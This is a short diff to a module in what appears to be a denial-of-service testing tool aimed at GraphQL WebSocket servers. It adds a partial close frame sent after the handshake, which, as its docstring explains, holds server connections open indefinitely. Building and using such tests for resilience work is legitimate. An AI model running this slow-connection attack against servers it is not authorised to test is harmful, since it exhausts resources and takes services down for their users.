@@ -11,10 +11,12 @@ _HANDSHAKE = (
     b"sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
     b"sec-websocket-protocol: graphql-transport-ws\r\n\r\n"
 )
+_CLOSE_FRAME = b"\x88"
+"""First byte of a close frame. The server keeps the connection for the answer to it, which never comes."""
 
 
 async def run(attacker: Attacker) -> None:
-    await run_slowly(attacker, _HANDSHAKE, b"")
+    await run_slowly(attacker, _HANDSHAKE, b"", _CLOSE_FRAME)
 
 
 ATTACK = Attack(
